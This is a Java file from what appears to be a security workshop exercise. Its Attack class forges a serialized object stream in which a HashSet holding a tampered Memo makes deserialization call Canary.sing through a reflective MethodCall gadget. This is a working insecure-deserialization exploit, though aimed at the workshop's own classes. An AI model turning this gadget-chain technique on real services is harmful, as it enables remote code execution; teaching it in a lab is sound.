package workshop.step01;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.util.HashSet;
import workshop.step01.library.Memo;
import workshop.step01.library.MethodCall;

/**
 * Your hat is black now. You can reach the broker, and you know what is on the worker's class path.
 */
public final class Attack {

    private Attack() {}

    /**
     * A native stream that makes {@link Canary#sing} run in whatever process reads it: during
     * {@code readObject}, before any cast can look at the result. It contains only classes that the
     * worker has: the JDK's, and those of {@code workshop.step01.library}.
     */
    public static byte[] forge() throws IOException {
        var memo = new Memo(() -> "harmless while we build");
        var trap = new HashSet<Object>();
        // This calls hashCode(). HashSet.readObject will call it again.
        trap.add(memo);
        try {
            var recipe = Memo.class.getDeclaredField("recipe");
            recipe.setAccessible(true);
            recipe.set(memo, new MethodCall(Canary.class, "sing"));
        } catch (ReflectiveOperationException e) {
            throw new IOException(e);
        }
        var draft = new Draft("Ada", "Why is the sky blue?", java.util.List.of());
        @SuppressWarnings({"unchecked", "rawtypes"})
        boolean added = ((java.util.List) draft.tags()).add(trap);

        var bytes = new ByteArrayOutputStream();
        try (var out = new ObjectOutputStream(bytes)) {
            out.writeObject(draft);
        }
        return bytes.toByteArray();
    }
}
